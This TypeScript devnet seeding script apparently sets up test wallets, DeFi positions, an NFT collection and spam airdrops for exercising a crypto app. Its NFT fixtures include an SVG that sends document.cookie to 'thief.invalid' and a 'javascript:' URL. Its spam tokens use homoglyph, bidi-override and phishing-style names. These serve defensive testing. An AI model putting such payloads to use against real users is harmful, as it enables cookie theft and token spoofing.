import { parseEther, parseUnits } from 'viem'
import { ownArtifact, type Teller } from '../../scripts/devnet/teller.ts'
import { lendingAbi, vaultAbi } from '../abi-grown.ts'
import { airdropAbi, picturesAbi, stakedEtherAbi } from '../abi-money.ts'
import { erc20Abi, mintAbi } from '../abi.ts'
import { CAST, CONTRACTS, NEIGHBOURS } from '../addresses.ts'
import { USDC_MINTER } from './contracts.ts'
import { MONEY_NONCE } from './feeds.ts'

const { alice, bob, carol, deployer, faucet, builder, forger } = CAST
const { keeper } = NEIGHBOURS
const { usdc, wbtc, weth, vault, lending, stakedEther, pictures, pairWbtcWeth, pairDaiUsdc } = CONTRACTS
const dollars = (text: string) => parseUnits(text, 6)

/** Money in its other forms: bitcoin, staked ether, shares of a vault, receipts of a lender, parts of pools. The keeper gives them away. */
export async function holdings({ constructAt, send, write }: Teller): Promise<void> {
  await constructAt(stakedEther, ownArtifact('StakedEther'), [], builder)
  await send(keeper, stakedEther, '0x', { value: parseEther('400') })
  await write(keeper, stakedEther, stakedEtherAbi, 'reward', [], { value: parseEther('86') })
  for (const [holder, staked, coins] of [
    [alice, '1.25', '0.042'],
    [bob, '3.1', '0.5'],
    [carol, '0.07', '0.0005'],
    [deployer, '12', '1.75'],
    [faucet, '300', '10'],
  ] as const) {
    await write(keeper, stakedEther, erc20Abi, 'transfer', [holder, parseEther(staked)])
    await write(keeper, wbtc, erc20Abi, 'transfer', [holder, parseUnits(coins, 8)])
  }
  for (const spender of [vault, lending]) await write(keeper, usdc, erc20Abi, 'approve', [spender, dollars('50000')])
  for (const [holder, saved] of [
    [alice, '1200'],
    [bob, '4100.75'],
    [deployer, '9000'],
  ] as const) {
    await write(keeper, vault, vaultAbi, 'deposit', [dollars(saved), holder])
    await write(keeper, lending, lendingAbi, 'supply', [usdc, dollars(saved) / 3n, holder, 0])
  }
  await write(USDC_MINTER, usdc, mintAbi, 'mint', [vault, dollars('640')]) // interest: a share is worth more than one dollar
  await write(keeper, weth, erc20Abi, 'approve', [lending, parseEther('5')])
  await write(keeper, lending, lendingAbi, 'supply', [weth, parseEther('0.8'), alice, 0])
  for (const [holder, part] of [
    [alice, 2_000n],
    [deployer, 5_000n],
  ] as const) {
    await write(keeper, pairDaiUsdc, erc20Abi, 'transfer', [holder, 10n ** 12n * part])
    await write(keeper, pairWbtcWeth, erc20Abi, 'transfer', [holder, 10n ** 9n * part])
  }
}

/** The smallest of images: one red point, as PNG. */
const POINT = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=='
const inline = (type: string, text: string): string => `data:${type};base64,${Buffer.from(text).toString('base64')}`
const described = (name: string, image: string): string =>
  inline('application/json', JSON.stringify({ name, description: `${name}, as the chain itself tells it.`, image }))

const HOUSE = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 32 32"><path d="M4 28V14L16 4l12 10v14z" fill="#7a5cff"/></svg>'
const HOSTILE =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>fetch("https://thief.invalid/"+document.cookie)</script>' +
  '<image href="https://thief.invalid/pixel.png"/><foreignObject><iframe src="https://thief.invalid"/></foreignObject></svg>'

/** Where the metadata of each picture is, from the best to the worst. The place in the row, from 1, is its id. */
export const PICTURES = [
  described('House', inline('image/svg+xml', HOUSE)),
  described('Trap', inline('image/svg+xml', HOSTILE)),
  described('Point', POINT),
  `data:application/json;utf8,${JSON.stringify({ name: 'Plain', image: POINT })}`,
  'https://pictures.invalid/5.json',
  'ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/6.json',
  'data:application/json;base64,bm90IGpzb24=',
  inline(
    'application/json',
    JSON.stringify({ name: 'Elsewhere', image: 'https://thief.invalid/8.png', animation_url: 'javascript:alert(1)' }),
  ),
] as const

/** A collection whose pictures are on chain, elsewhere, or harmful. alice has the odd ones, the deployer the even ones, bob a `House` too. */
export async function collection({ write }: Teller): Promise<void> {
  for (const [place, uri] of PICTURES.entries())
    await write(builder, pictures, picturesAbi, 'mint', [place % 2 === 0 ? alice : deployer, uri])
  await write(builder, pictures, picturesAbi, 'mint', [bob, PICTURES[0]])
}

/** Names, symbols and decimals of spam. The first has a Cyrillic letter, the last turns the reading direction and has a mark of no width. */
export const SPAM = {
  spamUsdc: ['USD Coin', 'USD\u0421', 6],
  spamUsdt: ['Tether USD', 'USDT', 6],
  spamVisit: ['Visit usdc-bonus.invalid to claim 5,000 USDC', 'usdc-bonus.invalid', 18],
  spamBidi: ['\u202eniocdSU', 'US\u200bDC', 6],
} as const

/** Tokens that nobody asked for arrive at everybody, each in more than would be worth a fortune. */
export async function airdrops({ create, write }: Teller): Promise<void> {
  const spam = Object.entries(SPAM) as [keyof typeof SPAM, (typeof SPAM)[keyof typeof SPAM]][]
  for (const [place, [name, args]] of spam.entries()) {
    await create(CONTRACTS[name], forger, MONEY_NONCE + place, ownArtifact('Airdrop'), args)
  }
  for (const [name, [, , decimals]] of spam) {
    await write(forger, CONTRACTS[name], airdropAbi, 'drop', [[alice, bob, carol, deployer], 5_000_000n * 10n ** BigInt(decimals)])
  }
}
